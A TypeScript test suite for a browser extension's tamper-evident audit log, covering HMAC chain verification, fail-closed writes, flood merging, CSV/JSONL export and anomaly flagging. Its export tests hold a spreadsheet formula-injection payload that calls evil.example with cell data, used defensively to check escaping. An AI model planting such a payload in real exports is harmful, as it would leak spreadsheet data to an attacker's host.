import 'fake-indexeddb/auto';
import { describe, expect, it } from 'vitest';
import { AuditLog, MAX_PENDING_WHILE_LOCKED } from '../../src/background/audit/audit-log.ts';
import { openKeyholeDB } from '../../src/background/db.ts';
import {
  ANOMALY_WINDOW_MS,
  type AuditRecord,
  anomalies,
  auditRecord,
  csvCell,
  toCsv,
  toJsonl,
  verifyChain,
} from '../../src/core/audit/audit.ts';

const hmacKey = () =>
  crypto.subtle.generateKey({ name: 'HMAC', hash: 'SHA-256', length: 256 }, false, ['sign', 'verify']) as Promise<CryptoKey>;
let n = 0;

describe('audit record type', () => {
  it('keeps only its own fields, and paths without their query', () => {
    const r = auditRecord({
      time: 5,
      kind: 'request',
      correlationId: 'c-1',
      origin: 'https://agent.example',
      path: '/v1/chat?key=sk-FAKE-in-query#frag',
      value: 'sk-FAKE-should-not-stay',
      headers: { authorization: 'Bearer sk-FAKE' },
    } as unknown as AuditRecord);
    expect(r).toEqual({ time: 5, kind: 'request', correlationId: 'c-1', origin: 'https://agent.example', path: '/v1/chat' });
    expect(JSON.stringify(r)).not.toContain('FAKE');
  });

  it('drops text that does not fit its field', () => {
    const r = auditRecord({
      time: 1,
      kind: 'request',
      correlationId: 'x',
      secret: 'has spaces and sk-FAKE',
      host: 'Evil Host',
      reason: 'x'.repeat(41),
    });
    expect(r).toEqual({ time: 1, kind: 'request', correlationId: 'x' });
  });
});

describe('audit chain', () => {
  async function log() {
    const state = { key: (await hmacKey()) as CryptoKey | null, t: 1000 };
    const saved = state.key;
    const db = await openKeyholeDB(`audit-${++n}`);
    const audit = new AuditLog(
      db,
      async () => state.key,
      () => state.t++,
    );
    return { db, audit, lock: () => (state.key = null), unlock: () => (state.key = saved), key: saved as CryptoKey };
  }
  const rec = (i: number) => ({
    kind: 'request' as const,
    correlationId: `c${i}`,
    origin: 'https://a.example',
    secret: 'openai',
    decision: 'allowed' as const,
  });

  it('verifies an untouched log and finds an edited, removed or reordered entry', async () => {
    const { db, audit, key } = await log();
    for (let i = 0; i < 5; i++) await audit.append(rec(i));
    expect(await audit.verify()).toEqual({ ok: true, checked: 5, pending: 0 });

    const all = await db.getAll('audit');
    const edited = all.map((e) => (e.seq === 3 ? { ...e, record: { ...e.record, origin: 'https://evil.example' } } : e));
    expect(await verifyChain(key, edited)).toMatchObject({ ok: false, brokenAt: 3 });
    expect(
      await verifyChain(
        key,
        all.filter((e) => e.seq !== 2),
      ),
    ).toMatchObject({ ok: false, brokenAt: 3 });
    expect(
      await verifyChain(
        key,
        [all[0], all[2], all[1], all[3]].filter((e) => e !== undefined),
      ),
    ).toMatchObject({ ok: false, brokenAt: 3 });
    const otherKey = await hmacKey();
    expect(await verifyChain(otherKey, all)).toMatchObject({ ok: false, brokenAt: 1 });
  });

  it('chains records written while locked at the next unlock', async () => {
    const { audit, lock, unlock } = await log();
    await audit.append(rec(1));
    lock();
    await audit.append({ kind: 'lock', correlationId: 'l', reason: 'idle' });
    await audit.append(rec(2));
    unlock();
    expect(await audit.verify()).toEqual({ ok: true, checked: 1, pending: 2 });
    expect(await audit.chainPending()).toBe(2);
    await audit.append({ kind: 'unlock', correlationId: 'u' });
    expect(await audit.verify()).toEqual({ ok: true, checked: 4, pending: 0 });
    expect((await audit.view()).entries.map((e) => e.record.kind)).toEqual(['unlock', 'request', 'lock', 'request']);
  });

  it('writes a burst of request and error records together, and any other kind at once with those waiting', async () => {
    const { db, audit } = await log();
    const burst = [1, 2].map((i) => audit.append(rec(i)));
    burst.push(audit.append({ kind: 'error', correlationId: 'c3', origin: 'https://a.example', status: 4200, decision: 'denied' }));
    expect(await db.count('audit')).toBe(0); // waiting for company, not lost
    await Promise.all(burst);
    expect((await db.getAll('audit')).map((e) => e.record.correlationId)).toEqual(['c1', 'c2', 'c3']);

    void audit.append(rec(4));
    await audit.append({ kind: 'lock', correlationId: 'l', reason: 'idle' });
    expect((await db.getAll('audit')).map((e) => [e.seq, e.record.correlationId])).toEqual([
      [1, 'c1'],
      [2, 'c2'],
      [3, 'c3'],
      [4, 'c4'],
      [5, 'l'],
    ]);
    void audit.append(rec(6));
    expect((await audit.view()).entries).toHaveLength(6); // reading writes what waits first
    expect(await audit.verify()).toEqual({ ok: true, checked: 6, pending: 0 });
  });

  it('commit resolves once its record is in the store, alone or with what waits', async () => {
    const { db, audit } = await log();
    void audit.append(rec(1)); // waiting for company
    await audit.commit({ ...rec(2), kind: 'request.sent' });
    expect((await db.getAll('audit')).map((e) => e.record.correlationId)).toEqual(['c1', 'c2']);
    const together = await Promise.all([3, 4, 5].map((i) => audit.commit({ ...rec(i), kind: 'request.sent' })));
    expect(together).toHaveLength(3);
    expect(await db.count('audit')).toBe(5);
    expect(await audit.verify()).toEqual({ ok: true, checked: 5, pending: 0 });
  });

  it('fails closed: a commit whose write fails rejects, every caller in its batch hears it, and the log says so until a write commits', async () => {
    const { db, audit } = await log();
    const told: boolean[] = [];
    audit.onHealth((h) => told.push(h));
    await audit.commit({ ...rec(1), kind: 'request.sent' });
    // another writer takes the next place in the store: this log's next write cannot commit
    await db.put('audit', { seq: 2, record: auditRecord({ time: 1, kind: 'error', correlationId: 'other', reason: 'x' }), mac: null });
    const batch = [2, 3].map((i) => audit.commit({ ...rec(i), kind: 'request.sent' }));
    const queued = audit.append(rec(4));
    for (const p of batch) await expect(p).rejects.toThrow();
    await expect(queued).rejects.toThrow(); // written in the same failed batch
    expect(audit.healthy).toBe(false);
    expect(told).toEqual([false]);
    expect((await db.getAll('audit')).map((e) => e.record.correlationId)).toEqual(['c1', 'other']);

    // the next write reads the store again and commits; the records lost are counted in one more
    await audit.commit({ ...rec(5), kind: 'request.sent' });
    expect(audit.healthy).toBe(true);
    expect(told).toEqual([false, true]);
    await audit.flush();
    const after = (await db.getAll('audit')).map((e) => e.record);
    expect(after.map((r) => r.correlationId).slice(0, 3)).toEqual(['c1', 'other', 'c5']);
    expect(after.at(-1)).toMatchObject({ kind: 'error', reason: 'audit-unavailable', count: 3 });
  });

  it('while failing, tries a write again on its own, and counts what was lost in it', async () => {
    const db = await openKeyholeDB(`audit-${++n}`);
    const key = await hmacKey();
    const audit = new AuditLog(db, async () => key, Date.now, 20);
    const told: boolean[] = [];
    audit.onHealth((h) => told.push(h));
    await audit.append({ kind: 'lock', correlationId: 'l1' });
    await db.put('audit', { seq: 2, record: auditRecord({ time: 1, kind: 'error', correlationId: 'other', reason: 'x' }), mac: null });
    await expect(audit.append({ kind: 'lock', correlationId: 'l2' })).rejects.toThrow();
    await expect.poll(() => told).toEqual([false, true]);
    const last = (await db.getAll('audit')).at(-1)?.record;
    expect(last).toMatchObject({ kind: 'error', reason: 'audit-unavailable' });
    expect(last?.count).toBeUndefined(); // one record lost: a record without count stands for one
  });

  it('a log whose store is gone refuses every commit, and keeps trying', async () => {
    const db = await openKeyholeDB(`audit-${++n}`);
    const key = await hmacKey();
    const audit = new AuditLog(db, async () => key, Date.now, 20);
    db.close(); // as when the browser clears the site's storage under a running worker
    await expect(audit.commit({ ...rec(1), kind: 'request.sent' })).rejects.toThrow();
    await new Promise((r) => setTimeout(r, 100)); // several retries, all failing
    expect(audit.healthy).toBe(false);
    await expect(audit.commit({ ...rec(2), kind: 'request.sent' })).rejects.toThrow();
  });

  it('filters', async () => {
    const { audit } = await log();
    await audit.append(rec(1));
    await audit.append({ ...rec(2), origin: 'https://b.example' });
    expect((await audit.view({ origin: 'https://b.example' })).entries).toHaveLength(1);
    expect((await audit.view({ kind: 'lock' })).entries).toHaveLength(0);
  });
});

describe('audit under a flood (issue 12, item 10)', () => {
  async function log() {
    const state = { key: (await hmacKey()) as CryptoKey | null, t: 1000 };
    const saved = state.key;
    const db = await openKeyholeDB(`audit-flood-${++n}`);
    const audit = new AuditLog(
      db,
      async () => state.key,
      () => state.t++,
    );
    return { db, audit, key: saved as CryptoKey, lock: () => (state.key = null), unlock: () => (state.key = saved) };
  }
  const refusal = (i: number) => ({
    kind: 'error' as const,
    correlationId: `e${i}`,
    origin: 'https://flood.example',
    tabId: 7,
    secret: `probe-${i}`, // a page varies what it can
    status: 4100,
    decision: 'denied' as const,
  });

  it('merges 20,000 refused calls from one tab into counted records, keeping only the fields they share', async () => {
    const { db, audit } = await log();
    await Promise.all(Array.from({ length: 20_000 }, (_, i) => audit.append(refusal(i))));
    const stored = await db.getAll('audit');
    expect(stored.length).toBeLessThanOrEqual(3);
    expect(stored.reduce((sum, e) => sum + (e.record.count ?? 1), 0)).toBe(20_000);
    expect(stored[0]?.record).toMatchObject({ kind: 'error', origin: 'https://flood.example', tabId: 7, status: 4100, decision: 'denied' });
    expect(stored[0]?.record.secret).toBeUndefined(); // it varied: no one name stands for all
    expect(await audit.verify()).toMatchObject({ ok: true });
  });

  it('keeps alike refusals of different origins apart', async () => {
    const { db, audit } = await log();
    await Promise.all([audit.append(refusal(1)), audit.append({ ...refusal(2), origin: 'https://other.example' })]);
    expect((await db.getAll('audit')).map((e) => e.record.origin).sort()).toEqual(['https://flood.example', 'https://other.example']);
  });

  it('while locked, keeps at most MAX_PENDING_WHILE_LOCKED records and counts the rest in one; all are chained at unlock', async () => {
    const { db, audit, lock, unlock } = await log();
    await audit.append({ kind: 'unlock', correlationId: 'u' });
    lock();
    // records of many origins (alike refusals would merge): 3,000 of them, in bursts
    for (let b = 0; b < 3; b++) {
      await Promise.all(
        Array.from({ length: 1000 }, (_, i) =>
          audit.append({ kind: 'request', correlationId: `r${b}-${i}`, origin: `https://o${b * 1000 + i}.example`, decision: 'allowed' }),
        ),
      );
    }
    const stored = await db.getAll('audit');
    expect(stored.length).toBe(1 + MAX_PENDING_WHILE_LOCKED + 1);
    expect(stored.at(-1)?.record).toMatchObject({ kind: 'error', reason: 'audit-overflow', count: 3000 - MAX_PENDING_WHILE_LOCKED });
    unlock();
    expect(await audit.chainPending()).toBe(MAX_PENDING_WHILE_LOCKED + 1);
    expect(await audit.verify()).toEqual({ ok: true, checked: MAX_PENDING_WHILE_LOCKED + 2, pending: 0 });
  });

  it('pages newest first', async () => {
    const { audit } = await log();
    for (let b = 0; b < 5; b++)
      await Promise.all(
        Array.from({ length: 500 }, (_, i) => audit.append({ kind: 'request', correlationId: `c${b}-${i}`, decision: 'allowed' })),
      );
    const first = await audit.view({}, 1000);
    expect(first.entries.map((e) => e.seq)).toEqual(Array.from({ length: 1000 }, (_, i) => 2500 - i));
    expect(first.more).toBe(true);
    const second = await audit.view({}, 1000, first.next);
    expect(second.entries[0]?.seq).toBe(1500);
    const third = await audit.view({}, 1000, second.next);
    expect(third.entries.map((e) => e.seq)).toEqual(Array.from({ length: 500 }, (_, i) => 500 - i));
    expect(third.more).toBe(false);
  });

  it('verifying a long chain does not hold up the log: an append made meanwhile is written first', async () => {
    const { audit } = await log();
    for (let b = 0; b < 20; b++)
      await Promise.all(
        Array.from({ length: 1000 }, (_, i) => audit.append({ kind: 'request', correlationId: `c${b}-${i}`, decision: 'allowed' })),
      );
    const order: string[] = [];
    const verified = audit.verify().then((c) => {
      order.push('verified');
      return c;
    });
    const view = await audit.view({}, 10);
    expect(view.entries).toHaveLength(10);
    expect(view.check).toBeNull(); // still verifying: the view does not wait for it
    await audit.append({ kind: 'lock', correlationId: 'l', reason: 'person' }).then(() => order.push('appended'));
    expect(await verified).toMatchObject({ ok: true }); // it may have reached the append too
    expect(order).toEqual(['appended', 'verified']);
    // the next verification starts at the checkpoint: it checks only what came since
    expect(await audit.verify()).toEqual({ ok: true, checked: 20_001, pending: 0 });
    expect((await audit.view({}, 1)).check).toEqual({ ok: true, checked: 20_001, pending: 0 });
  });

  it('a worker that starts fresh verifies from the first entry and finds one tampered with', async () => {
    const { db, audit, key } = await log();
    for (let i = 0; i < 50; i++) await audit.append({ kind: 'request', correlationId: `c${i}`, decision: 'allowed' });
    const e = await db.get('audit', 20);
    if (!e) throw new Error('no entry 20');
    await db.put('audit', { ...e, record: { ...e.record, origin: 'https://evil.example' } });
    const fresh = new AuditLog(db, async () => key);
    expect(await fresh.verify()).toMatchObject({ ok: false, brokenAt: 20 });
    expect((await fresh.view({}, 5)).check).toMatchObject({ ok: false, brokenAt: 20 });
  });
});

describe('exports', () => {
  const entries = [
    { seq: 1, mac: null, record: auditRecord({ time: 1, kind: 'request', correlationId: 'a', origin: 'https://a.example', path: '/x' }) },
    { seq: 2, mac: null, record: auditRecord({ time: 2, kind: 'request', correlationId: 'b', path: '/=cmd,"q"' }) },
  ];
  it('writes JSON Lines, one record per line', () => {
    const lines = toJsonl(entries).trimEnd().split('\n');
    expect(lines.map((l) => JSON.parse(l).seq)).toEqual([1, 2]);
  });
  it('writes CSV with quoting', () => {
    const csv = toCsv(entries);
    expect(csv.split('\r\n')[0]).toBe(
      'seq,time,kind,correlationId,origin,tabId,secret,mode,method,host,path,decision,status,latencyMs,reason,count',
    );
    expect(csv).toContain('"/=cmd,""q"""');
    expect(csv.split('\r\n')).toHaveLength(4);
  });

  // What a spreadsheet runs as a formula: a cell starting with = + - @, a tab or a carriage return.
  for (const prefix of ['=', '+', '-', '@', '\t', '\r']) {
    it(`no cell starting with ${JSON.stringify(prefix)} reaches a spreadsheet as a formula`, () => {
      const hostile = `${prefix}HYPERLINK("https://evil.example/?"&A1,"x")`;
      const cell = csvCell(hostile);
      // the cell as a spreadsheet reads it, unquoted
      const read = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
      expect(read.startsWith("'")).toBe(true);
      expect(read.slice(1)).toBe(hostile); // nothing lost
      const csv = toCsv([{ seq: 1, mac: null, record: { time: 1, kind: 'error', correlationId: 'x', reason: hostile } as AuditRecord }]);
      expect(csv).toContain(`"'${hostile.replaceAll('"', '""')}"`);
    });
  }

  it('keeps plain negative numbers as numbers', () => {
    expect(csvCell(-32602)).toBe('-32602');
    expect(csvCell('-1+2')).toBe(`"'-1+2"`);
  });
});

describe('anomaly flag (fake clock)', () => {
  const now = 1_000_000_000;
  const uses = (count: number, windowsAgo: number, origin = 'https://a.example') =>
    Array.from({ length: count }, (_, i) =>
      auditRecord({
        time: now - windowsAgo * ANOMALY_WINDOW_MS - 1 - i,
        kind: 'request',
        correlationId: 'x',
        origin,
        secret: 'openai',
        decision: 'allowed',
      }),
    );
  const baseline = (perWindow: number) => Array.from({ length: 287 }, (_, w) => uses(perWindow, w + 1)).flat();

  it('flags a burst far above the origin’s own median', () => {
    expect(anomalies([...baseline(1), ...uses(60, 0)], now)).toEqual([
      { origin: 'https://a.example', secret: 'openai', recent: 60, median: 1 },
    ]);
  });
  it('needs at least 50 uses', () => {
    expect(anomalies([...baseline(1), ...uses(49, 0)], now)).toEqual([]);
  });
  it('needs more than 10x the median', () => {
    expect(anomalies([...baseline(10), ...uses(100, 0)], now)).toEqual([]);
    expect(anomalies([...baseline(10), ...uses(101, 0)], now)).toHaveLength(1);
  });
  it('judges each origin against its own baseline', () => {
    const busy = Array.from({ length: 287 }, (_, w) => uses(20, w + 1, 'https://busy.example')).flat();
    expect(anomalies([...busy, ...uses(60, 0, 'https://busy.example'), ...uses(60, 0)], now).map((a) => a.origin)).toEqual([
      'https://a.example',
    ]);
  });
  it('ignores denied requests and records older than 24 h', () => {
    const denied = uses(60, 0).map((r) => ({ ...r, decision: 'denied' as const }));
    expect(anomalies([...denied, ...uses(60, 300)], now)).toEqual([]);
  });
});
